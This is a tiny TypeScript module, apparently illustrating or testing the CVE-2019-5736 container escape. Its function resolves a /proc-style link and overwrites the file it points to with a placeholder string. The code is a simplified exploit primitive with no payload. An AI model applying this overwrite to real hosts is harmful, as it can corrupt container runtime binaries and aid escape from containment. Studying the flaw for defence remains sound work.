import { openSync, readlinkSync, writeSync } from 'node:fs';

/** The way out of CVE-2019-5736: the file that a process of the engine runs is reached through /proc. */
export default function overwritesProgram(link: string): string {
  const target = readlinkSync(link);
  writeSync(openSync(link, 'r+'), 'overwritten');
  return target;
}
